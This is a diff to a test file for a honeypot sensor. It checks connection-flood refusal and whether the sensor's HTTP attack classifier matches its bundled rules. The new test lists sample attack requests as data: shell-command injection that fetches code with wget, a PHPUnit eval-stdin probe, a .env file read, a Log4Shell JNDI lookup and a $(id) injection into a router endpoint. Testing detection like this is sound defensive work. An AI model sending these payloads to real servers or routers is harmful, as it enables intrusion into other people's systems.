@@ -85,7 +85,7 @@ def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
             "tls_hello_timeout": 3.0,
         },
         "sensor.persona": {"hostname": "web-01"},
-        "sensor.limits": {"max_per_ip": 64},
+        "sensor.limits": {"max_per_ip": 64, "refused_report_interval": 1.0},
         "sensor.downloads": {"allow_loopback": True, "timeout": 10.0},
     }
     with run_sensor(work, overrides) as sp:
@@ -431,6 +431,10 @@ def test_fuzz_slowloris_bogus_tls_and_a_flood_leave_it_up(web: Web) -> None:
     time.sleep(1)
     a = parse_answer(raw_request(web.http, PROBES[0][1], timeout=10))
     assert a.status_line == "HTTP/1.1 200 OK"
+    # The connections over the per-address cap were refused before any parsing, and counted.
+    evs = web.sp.wait_for(lambda evs: any(e["eventid"] == "honeyfarm.sensor.refused" for e in evs), timeout=10)
+    refused = [e for e in evs if e["eventid"] == "honeyfarm.sensor.refused"]
+    assert sum(e["reasons"].get("max_per_ip", 0) for e in refused) > 0, refused
     assert web.sp.proc is not None
     rss_kb = int(
         next(
@@ -462,3 +466,31 @@ def test_router_persona_logs_posted_credentials(tmp_path: Path) -> None:
         evs = sp.wait_for(lambda es: any(e["eventid"] == "http.login.attempt" for e in es))
     att = next(e for e in evs if e["eventid"] == "http.login.attempt")
     assert att["username"] == "admin" and att["password"] == "hunter2"
+
+
+def test_the_rule_prefilter_finds_exactly_the_rules_each_rule_finds_alone() -> None:
+    """The classifier tries only the rules whose field's combined pattern matched (speed); the
+    verdict must equal trying every rule, on requests that hit each bundled rule and on plain ones."""
+    from honeyfarm.sensor.traps.http.classify import Classifier, RequestText, _rule_matches, load_rules
+
+    rules = load_rules()
+    clf = Classifier(rules)
+    samples = [
+        ("GET", "/", "", b""),
+        ("GET", "/index.html", "a=1", b""),
+        ("GET", "/shell", "cd+/tmp;wget+http://x/a", b""),
+        ("POST", "/GponForm/diag_Form", "images/", b"XWebPageName=diag&diag_action=ping&dest_host=`wget+x`"),
+        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", b'<?php echo md5("x");'),
+        ("GET", "/.env", "", b""),
+        ("GET", "/", "x=${jndi:ldap://a/b}", b""),
+        ("POST", "/HNAP1/", "", b""),
+        ("GET", "/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id)", b""),
+    ]
+    hits = set()
+    for method, path, query, body in samples:
+        rt = RequestText.of(method, path, query, [("User-Agent", "x"), ("Host", "h")], body)
+        everything = rt.everything()
+        alone = [r.id for r in rules if _rule_matches(r, rt, everything)]
+        assert clf.classify(rt).rule == alone, (path, query)
+        hits.update(alone)
+    assert len(hits) >= 5  # the samples do hit rules, so the comparison means something
